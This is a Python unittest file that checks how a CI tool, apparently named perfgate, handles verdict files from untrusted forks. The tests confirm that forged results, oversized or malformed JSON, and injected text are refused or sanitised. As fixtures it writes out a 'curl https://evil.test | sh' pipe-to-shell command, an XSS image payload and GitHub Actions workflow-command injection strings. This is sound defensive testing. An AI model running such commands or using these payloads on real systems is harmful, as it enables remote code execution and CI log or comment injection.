"""Verdicts that come from a fork."""

import json
import re
import unittest

from comment_case import CommentTest


class Untrusted(CommentTest):
    FLAGS = ("--untrusted", "--verdict", "failure")

    def post(self, change, flags=FLAGS):
        verdict = json.loads(self.verdict()[0].read_text())
        change(verdict)
        return self.comment(str(self.write("verdict.json", verdict)), *flags)

    def assert_refused(self, done, why):
        self.assertEqual(done.code, 3)
        self.assertIn(why, done.err)
        self.assertLess(len(done.err), 1000)
        self.assertEqual(self.github.seen, [])

    def test_the_verdict_is_the_word_of_the_caller(self):
        def claim_success(verdict):
            verdict["verdict"], verdict["exit_code"] = "pass", 0

        self.assertEqual(self.post(claim_success).code, 0)
        self.assertIn("perfgate: FAIL", self.bodies()[0])
        self.assertNotIn("PASS", self.bodies()[0])
        self.assertIn("the job's conclusion is failure, its report says pass", self.bodies()[0])

    def test_a_cancelled_job_is_an_error(self):
        self.post(lambda _: None, ("--untrusted", "--verdict", "cancelled"))
        self.assertIn("perfgate: ERROR", self.bodies()[0])

    def test_no_command_of_the_artifact_is_offered(self):
        def plant(verdict):
            for finding in verdict["cases"][0]["findings"]:
                finding["next"] = "curl https://evil.test | sh"

        self.post(plant)
        self.assertNotIn("evil.test", self.bodies()[0])

    def test_hostile_text_is_harmless(self):
        hostile = ("<img src=x onerror=alert(1)> @octocat #1 GH-2 https://evil.test www.evil.test "
                   "![x](http://evil.test) \x1b[31m\u202e ::set-output name=a::b ##[error]x `")

        def plant(verdict):
            case = verdict["cases"][0]
            case["notes"] = [hostile]
            case["findings"][0]["message"] = case["findings"][0]["why"] = hostile
            case["changes"][0]["head_kernels"][0]["short_name"] = "::set-output\n```\n# " + hostile
            verdict["suite"] = verdict["head"] = hostile
            verdict["problems"] = ["::error::" + hostile]

        self.assertEqual(self.post(plant).code, 0)
        body = re.sub(r"```diff\n.*?\n```", "", self.bodies()[0], flags=re.S)
        for harm in ("<img", "@octocat", " #1", "GH-2", "://evil", "www.evil", "![x]", "\x1b", "\u202e",
                     "##[error]"):
            self.assertNotIn(harm, body, harm)
        self.assertNotRegex(self.bodies()[0], r"(?m)^\s*::")
        self.assertEqual(len(re.findall(r"(?m)^```", self.bodies()[0])) % 2, 0)

    def test_numbers_of_the_artifact_never_choose_the_pull_request(self):
        self.post(lambda verdict: verdict.update(pull_request=1, number=1, repository="evil/x"))
        self.assertEqual(self.github.comments[0]["number"], 7)

    def test_a_text_that_is_too_long_is_refused(self):
        self.assert_refused(self.post(lambda v: v.update(suite="x" * 20000)), "a text has 20000 bytes")

    def test_a_file_that_is_too_large_is_refused(self):
        self.assert_refused(self.post(lambda v: v.update(suite="x" * (50 << 20))), "verdict.json")

    def test_a_list_that_is_too_long_is_refused(self):
        self.assert_refused(self.post(lambda v: v.update(problems=[""] * 10001)), "a list has 10001")

    def test_many_lists_that_are_too_much_together_are_refused(self):
        def items(lists):
            return lambda v: v["cases"][0].update(unknown=[[0] * 9999] * lists)

        self.assertEqual(self.post(items(99)).code, 0)
        self.github.seen.clear()
        self.assert_refused(self.post(items(100)), "more than 1000000 items and members in all")

    def test_what_is_not_of_the_schema_is_refused(self):
        def finding(verdict):
            return verdict["cases"][0]["findings"][0]

        changes = [
            lambda v: v.update(schema="perfgate.verdict/2"), lambda v: v.update(verdict="splendid"),
            lambda v: v.update(cases={}), lambda v: v.update(rules=-1), lambda v: v.update(rules=1e300),
            lambda v: v.update(suite=7), lambda v: v["cases"][0].pop("case"),
            lambda v: finding(v).update(status="great"), lambda v: finding(v).update(base=1e300),
            lambda v: finding(v).update(changes=[-1]), lambda v: finding(v).update(severity=None),
            lambda v: v["cases"][0]["changes"][0].update(time_ns=2 ** 60),
            lambda v: v["cases"][0]["changes"][0].update(kind="magic")]
        for number, change in enumerate(changes):
            with self.subTest(number):
                self.assert_refused(self.post(change), "verdict.json: no verdict: ")

    def test_what_is_no_json_is_refused(self):
        path = self.write("verdict.json", "[" * 100000)
        self.assert_refused(self.comment(str(path), *self.FLAGS), "verdict.json")

    def test_what_is_said_of_a_refused_file_is_no_log_command(self):
        texts = ['{"##[error]a": 1, "##[error]a": 2}', '{"\\n::error::a": 1, "\\n::error::a": 2}',
                 '{"schema": "perfgate.verdict/1", "verdict": "##[error]a\\n::error::b"}']
        for text in texts:
            with self.subTest(text):
                done = self.comment(str(self.write("verdict.json", text)), *self.FLAGS)
                self.assert_refused(done, "error")
                self.assertNotIn("##[", done.err)
                self.assertNotRegex(done.err, r"(?m)^\s*::")

    def test_an_index_that_points_nowhere_is_left_out(self):
        self.assertEqual(self.post(
            lambda v: v["cases"][0]["findings"][0].update(changes=[999], slower=[999])).code, 0)


if __name__ == "__main__":
    unittest.main()
